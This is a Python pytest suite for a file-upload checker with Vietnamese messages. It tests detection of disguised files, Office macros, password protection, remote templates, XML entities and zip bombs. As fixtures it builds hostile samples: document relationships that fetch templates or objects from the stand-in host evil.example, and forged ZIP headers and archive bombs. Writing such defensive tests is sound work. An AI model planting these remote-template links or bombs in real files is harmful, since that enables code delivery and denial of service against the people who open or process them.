"""What a file is, by its bytes: named wrongly, dressed up, or built to harm."""

import io
import struct
import zipfile
from pathlib import Path

import pytest

from app.core.errors import Invalid
from app.files.archives import _OLE_END
from app.files.content import check_content, find_kind
from app.files.types import EVERYTHING
from tests.support import samples

RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.fixture
def check(tmp_path: Path):
    def run(name: str, data: bytes, allowed: frozenset[str] = EVERYTHING) -> str:
        path = tmp_path / "file"
        path.write_bytes(data)
        return check_content(path, name=name, allowed=allowed).media_type

    return run


def relationship(kind: str, target: str) -> str:
    return (
        f'<Relationships xmlns="{RELS}"><Relationship Id="r1" Type="{OFFICE}/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )


@pytest.mark.parametrize(
    ("name", "data", "media_type"),
    [
        ("a.docx", samples.docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("A.DOCX", samples.docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("a.xlsx", samples.xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("a.doc", samples.ole("WordDocument", "1Table"), "application/msword"),
        ("a.xls", samples.ole("Workbook"), "application/vnd.ms-excel"),
        ("a.ppt", samples.ole("Pictures", "PowerPoint Document"), "application/vnd.ms-powerpoint"),
        ("a.pdf", samples.pdf(), "application/pdf"),
        ("a.png", samples.png(), "image/png"),
        ("a.jpg", b"\xff\xd8\xff\xe0" + bytes(50), "image/jpeg"),
        ("a.jpeg", b"\xff\xd8\xff\xe1" + bytes(50), "image/jpeg"),
        ("a.mp4", samples.mp4(), "video/mp4"),
        ("a.mov", samples.mp4(container="mov"), "video/quicktime"),
        ("a.mp4", samples.mp4(container="mov"), "video/mp4"),
        ("a.zip", samples.packed({"phan-mem/main.py": "print()"}), "application/zip"),
        ("a.txt", "Ý tưởng số hóa\r\n".encode(), "text/plain; charset=utf-8"),
        ("a.txt", "Ý tưởng".encode("utf-16"), "text/plain; charset=utf-8"),
        ("a.txt", b"\xdd t\xf4\xdfng", "text/plain; charset=utf-8"),
    ],
)
def test_check_content_takes_what_it_says(check, name: str, data: bytes, media_type: str) -> None:
    assert check(name, data) == media_type


@pytest.mark.parametrize(
    ("name", "data", "found"),
    [
        ("a.docx", samples.exe(), "chương trình chạy trên Windows (.exe)"),
        ("a.docx", samples.pdf(), "PDF (.pdf)"),
        ("a.docx", samples.xlsx(), "bảng tính Excel (.xlsx)"),
        ("a.docx", samples.packed({"a": "b"}), "tệp nén ZIP (.zip)"),
        ("a.zip", samples.docx(), "văn bản Word (.docx)"),
        ("a.doc", samples.docx(), "văn bản Word (.docx)"),
        ("a.docx", samples.ole("WordDocument"), "văn bản Word (.doc)"),
        ("a.doc", b"{\\rtf1 x}", "văn bản RTF"),
        ("a.doc", b"\xef\xbb\xbf<HTML><body>", "trang web (HTML)"),
        ("a.pdf", b"#!/bin/sh\n", "tập lệnh (script)"),
        ("a.mp4", b"ffconcat version 1.0\nfile in.mov\n", "văn bản thuần"),
        ("a.mp4", b"\x1aE\xdf\xa3\x01webm" + bytes(20), "video WebM hoặc MKV"),
        ("a.mp4", bytes(4) + b"ftypheic" + bytes(20), "HEIF"),
        ("a.jpg", samples.png(), "ảnh JPEG hoặc PNG (.png)"),
        ("a.jpg", b"\x00\x00\x01\x02" * 5, "."),
        ("a.txt", samples.exe(), "Windows"),
        ("a.txt", b"a" * 300_000 + b"\x00", "."),
        ("a.png", b"GIF89a" + bytes(20), "ảnh GIF"),
        ("a.zip", b"Rar!\x1a\x07\x01\x00" + bytes(50), "tệp nén RAR"),
        ("a.xls", samples.ole("Something"), "."),
    ],
)
def test_disguise_is_refused_naming_what_it_is(check, name: str, data: bytes, found: str) -> None:
    with pytest.raises(Invalid) as caught:
        check(name, data)
    said = str(caught.value.message)
    assert found in said
    assert "nội dung thật" in said
    assert f"«{name}»" in said


@pytest.mark.parametrize("name", ["a.exe", "a", "a.docx.exe", "a.docm", "a.svg", "a."])
def test_kind_that_nobody_allowed_is_refused(check, name: str) -> None:
    with pytest.raises(Invalid, match="không được nhận"):
        check(name, samples.docx())


def test_empty_file_is_refused(check) -> None:
    with pytest.raises(Invalid, match="0 byte"):
        check("a.docx", b"")


# ---- harm inside ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("member", ["word/vbaProject.bin", "word/activeX/activeX1.bin", "xl/VBAPROJECT.bin"])
def test_macros_in_office_files_are_refused(check, member: str) -> None:
    with pytest.raises(Invalid, match="macro"):
        check("a.docx", samples.repacked(samples.docx(), {member: b"x"}))


def test_macro_document_renamed_to_docx_is_refused(check) -> None:
    types = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    with pytest.raises(Invalid, match="macro"):
        check("a.docx", samples.packed({"[Content_Types].xml": types, "word/document.xml": "<x/>"}))


@pytest.mark.parametrize("names", [("WordDocument", "Macros"), ("Workbook", "_VBA_PROJECT_CUR")])
def test_macros_in_old_office_files_are_refused(check, names: tuple[str, ...]) -> None:
    with pytest.raises(Invalid, match="macro"):
        check("a.doc", samples.ole(*names))


def test_macros_beyond_the_first_sector_of_the_directory_are_found(check) -> None:
    with pytest.raises(Invalid, match="macro"):
        check("a.doc", samples.ole("WordDocument", *[f"stream {n}" for n in range(40)], "Macros"))


def test_password_is_refused(check) -> None:
    with pytest.raises(Invalid, match="mật khẩu"):
        check("a.docx", samples.ole("EncryptionInfo", "EncryptedPackage"))


def test_zip_with_a_password_is_refused(check) -> None:
    data = bytearray(samples.packed({"a.txt": "x"}))
    data[data.index(b"PK\x01\x02") + 8] |= 1
    with pytest.raises(Invalid, match="mật khẩu"):
        check("a.zip", bytes(data))


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "https://evil.example/t.dotm"),
        ("attachedTemplate", "\\\\evil.example\\share\\t.dotm"),
        ("attachedTemplate", "file://evil.example/share/t.dotm"),
        ("attachedTemplate", "file:///\\\\evil.example\\share\\t.dotm"),
        ("oleObject", "mhtml:https://evil.example/x!y"),
        ("frame", " HTTP://evil.example/"),
        ("subDocument", "ftp://evil.example/x.docx"),
    ],
)
def test_remote_template_or_object_is_refused(check, kind: str, target: str) -> None:
    data = samples.repacked(samples.docx(), {"word/_rels/settings.xml.rels": relationship(kind, target)})
    with pytest.raises(Invalid, match="máy khác"):
        check("a.docx", data)


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("hyperlink", "https://dichvucong.gov.vn/"),
        ("attachedTemplate", "file:///C:\\Users\\LAN\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"),
        ("image", "https://example.org/a.png"),
    ],
)
def test_links_of_honest_files_pass(check, kind: str, target: str) -> None:
    data = samples.repacked(samples.docx(), {"word/_rels/settings.xml.rels": relationship(kind, target)})
    assert check("a.docx", data)


def test_relationships_with_entities_are_refused(check) -> None:
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaa">]><Relationships>&a;</Relationships>'
    with pytest.raises(Invalid, match="hỏng"):
        check("a.docx", samples.repacked(samples.docx(), {"word/_rels/settings.xml.rels": bomb}))


# ---- bombs ------------------------------------------------------------------------------------------------


def test_zip_bomb_by_ratio_is_refused(check) -> None:
    with pytest.raises(Invalid, match="quá lớn"):
        check("a.zip", samples.packed({"zeros": bytes(20 << 20)}))


def test_docx_bomb_is_refused(check) -> None:
    with pytest.raises(Invalid, match="quá lớn"):
        check("a.docx", samples.repacked(samples.docx(), {"word/document.xml": b" " * (20 << 20)}))


def test_zip_bomb_by_declared_size_is_refused(check) -> None:
    data = bytearray(samples.packed({"a": "x" * 100}))
    at = data.index(b"PK\x01\x02")
    data[at + 20 : at + 28] = struct.pack("<II", 50_000_000, 600_000_000)
    with pytest.raises(Invalid, match="quá lớn"):
        check("a.zip", bytes(data))


def test_zip_with_too_many_members_is_refused(check) -> None:
    with pytest.raises(Invalid, match="quá lớn"):
        check("a.zip", samples.packed({str(n): b"" for n in range(10_001)}))


def test_zip_whose_directory_would_fill_the_memory_is_refused_unread(check) -> None:
    data = bytearray(samples.packed({"a": "x"}))
    at = data.rindex(b"PK\x05\x06")
    data[at + 12 : at + 16] = struct.pack("<I", 1 << 30)
    with pytest.raises(Invalid, match="quá lớn"):
        check("a.zip", bytes(data))


def test_zip64_directory_is_looked_at_too(check) -> None:
    data = samples.packed({"a": "x"})
    at = data.rindex(b"PK\x05\x06")
    record = b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, 1, 1, 1 << 40, 0)
    locator = b"PK\x06\x07" + struct.pack("<IQI", 0, at, 1)
    with pytest.raises(Invalid, match="quá lớn"):
        check("a.zip", data[:at] + record + locator + data[at:])


def test_honest_zip64_passes(check) -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive, archive.open("a.txt", "w", force_zip64=True) as member:
        member.write(b"x")
    assert check("a.zip", stream.getvalue())


@pytest.mark.parametrize(
    "data",
    [
        samples.docx()[:20_000],
        b"PK\x03\x04",
        b"PK\x03\x04" + bytes(100),
        samples.packed({}),
        b"PK\x03\x04" + samples.packed({}),
        samples.packed({"[Content_Types].xml": "<not xml"}),
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(10),
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000),
        samples.ole("WordDocument")[:600],
    ],
)
def test_broken_archives_are_refused(check, data: bytes) -> None:
    with pytest.raises(Invalid):
        check("a.docx", data)


def test_archive_with_rubbish_behind_a_sound_directory_is_refused(check) -> None:
    data = bytearray(samples.packed({"a.txt": "một hai ba " * 50}))
    data[35:43] = b"\xff" * 8
    with pytest.raises(Invalid, match="hỏng"):
        check("a.zip", bytes(data))


def test_office_file_packed_with_lzma_is_refused_unread(check) -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
    with pytest.raises(Invalid, match="hỏng"):
        check("a.docx", stream.getvalue())


def test_ole_directory_that_runs_in_a_circle_ends(tmp_path: Path) -> None:
    data = bytearray(samples.ole("WordDocument"))
    data[512 + 4 : 512 + 8] = struct.pack("<I", 1)
    assert struct.unpack("<I", data[516:520])[0] < _OLE_END
    path = tmp_path / "a"
    path.write_bytes(data)
    assert find_kind(path) == "doc"
